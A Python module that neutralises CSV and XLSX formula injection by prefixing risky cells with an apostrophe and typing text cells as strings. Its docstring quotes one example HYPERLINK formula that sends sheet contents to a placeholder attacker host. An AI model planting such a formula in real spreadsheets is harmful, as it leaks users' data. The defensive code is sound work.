"""Spreadsheet exports that stay data: no CSV or XLSX cell is ever run as a formula.

A document title, a quote or a clerk's note can start with ``=``; Excel and LibreOffice would run it
(``=HYPERLINK("http://evil.example/?leak="&A1,"x")`` sends the sheet away). The OWASP recipe: a text cell
that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'``; in XLSX the
cell is also typed as a string, so no formula is created. Every export goes through :func:`inert`.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

ACTIVE_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert(value):
    """``value`` as a spreadsheet shows it and never runs it: text starting with = + - @ tab or CR gets a ``'``."""
    if isinstance(value, str) and value.startswith(ACTIVE_STARTS):
        return "'" + value
    return value


def csv_text(header: Sequence, rows: Iterable[Sequence]) -> str:
    """A CSV of inert cells, with a BOM so that Excel opens it as UTF-8."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([inert(v) for v in header])
    writer.writerows([inert(v) for v in row] for row in rows)
    return "\ufeff" + out.getvalue()


def append_inert(sheet, row: Sequence) -> None:
    """Append a row of inert cells to an openpyxl worksheet; text cells are typed as strings (never formulas)."""
    sheet.append([inert(v) for v in row])
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
